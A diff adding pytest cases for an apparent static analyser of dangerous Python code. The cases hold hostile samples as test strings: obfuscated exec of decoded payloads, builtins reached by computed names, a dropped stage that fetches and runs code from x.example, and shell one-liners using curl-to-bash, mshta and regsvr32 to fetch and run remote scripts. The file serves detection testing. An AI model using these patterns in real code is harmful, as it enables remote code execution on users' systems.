@@ -817,3 +817,113 @@ def test_the_calling_program_sent_to_a_fixed_host_is_reconnaissance() -> None:
     assert "CPL-THR-017" in danger(source)
     # frames inspected for a log message that stays local
     assert not danger("import inspect, logging\nlogging.info(inspect.stack()[1].function)\n")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # XOR by a lambda or operator.xor mapped over the data; a substitution table
+        "D = bytes([1, 2])\nexec(bytes(map(lambda b: b ^ 7, D)))\n",
+        "import operator, itertools\nexec(bytes(map(operator.xor, D, itertools.cycle([5]))))\n",
+        "E = 'vzcbeg bf'\nexec(E.translate(str.maketrans(B, A)))\n",
+        # a decoder written as a function of this module, its result run
+        "def dec(s, k):\n    out = ''\n    for i, c in enumerate(s):\n"
+        "        out += chr(ord(c) ^ ord(k[i % len(k)]))\n    return out\n\n"
+        "eval(compile(dec(E, 'k'), '<x>', 'exec'))\n",
+        # a list filled by a loop, and a method of this file given decoded data
+        "out = []\nfor b in D:\n    out.append(b ^ 3)\nexec(bytes(out))\n",
+        "import base64\nclass L:\n    def go(self, d):\n        exec(d)\n\n"
+        "L().go(base64.b64decode(P))\n",
+        # an integer unpacked into the program; os.system bound to a name
+        "n = 123456789\nexec(n.to_bytes(9, 'big'))\n",
+        "import base64\nimport os as o\nrun = o.system\nrun(base64.b64decode(C).decode())\n",
+    ],
+)
+def test_decoders_written_by_hand_reach_their_sinks(source: str) -> None:
+    assert "CPL-THR-001" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a checksum mapped with operator.xor and printed; a translation table for display
+        "import functools, operator\nprint(functools.reduce(operator.xor, data, 0))\n",
+        "T = str.maketrans('-', '_')\nname = raw.translate(T)\nprint(name)\n",
+        # a method of this file given plain data; decoded data written to another object
+        "class L:\n    def go(self, d):\n        exec(d)\n\nL().go('x = 1')\n",
+        "import base64\nclass F:\n    def write(self, s):\n        exec(s)\n\n"
+        "out.write(base64.b64decode(line))\n",
+    ],
+)
+def test_xor_tables_and_methods_of_plain_data_are_not_decoders(source: str) -> None:
+    assert "CPL-THR-001" not in danger(source)
+
+
+@pytest.mark.parametrize(
+    "runner",
+    [
+        "os.system(f'python \"{P}\"')",
+        "subprocess.run('{} {}'.format(sys.executable, P), shell=True)",
+        "subprocess.run('%s %s' % (sys.executable, P), shell=True)",
+    ],
+)
+def test_a_written_stage_run_by_a_quoted_or_formatted_command_is_found(runner: str) -> None:
+    source = (
+        "import os, subprocess, sys\n"
+        "S = 'import urllib.request\\nexec(urllib.request.urlopen(\"https://x.example/s\").read())'\n"
+        "P = os.path.join(os.getenv('APPDATA'), 'u.pyw')\n"
+        f"with open(P, 'w') as fh:\n    fh.write(S)\n{runner}\n"
+    )
+    assert "CPL-THR-016" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "__builtins__.__getitem__('ex' + 'ec')(c)\n",
+        "import builtins\nbuiltins.__dict__.__getitem__('ev' + 'al')(c)\n",
+        "locals()['__builtins__']['ex' + 'ec'](c)\n",
+        "import builtins\n"
+        "getattr(builtins, [n for n in dir(builtins) if n[::-1] == 'cexe'][0])(c)\n",
+        "eval('__imp' + 'ort__')('os').system('id')\n",
+    ],
+)
+def test_more_lookups_by_computed_names_are_threats(source: str) -> None:
+    assert "CPL-THR-003" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a registry filled from a module's names, a builtin picked by a parameter
+        "import builtins\nNAMES = [n for n in dir(builtins) if not n.startswith('_')]\n",
+        "def pick(ns, key):\n    return ns.__getitem__(key)\n",
+        "eval('1 + 2')\n",
+    ],
+)
+def test_lookups_by_plain_or_run_time_names_are_not_computed(source: str) -> None:
+    assert "CPL-THR-003" not in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os\nos.system('echo Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo | base64 -d | bash')\n",
+        "import subprocess\nsubprocess.Popen('mshta https://x.example/a.hta', shell=True)\n",
+        "import os\nos.system('regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll')\n",
+    ],
+)
+def test_shell_commands_that_decode_or_fetch_and_run_are_threats(source: str) -> None:
+    assert "CPL-THR-015" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # decoding to a file, an installer run from a local path
+        "import os\nos.system('base64 -d key.b64 > key.pem')\n",
+        "import os\nos.system('msiexec /i C:\\\\setup\\\\app.msi /quiet')\n",
+    ],
+)
+def test_shell_commands_that_decode_to_files_or_install_local_msis_are_not(source: str) -> None:
+    assert "CPL-THR-015" not in danger(source)
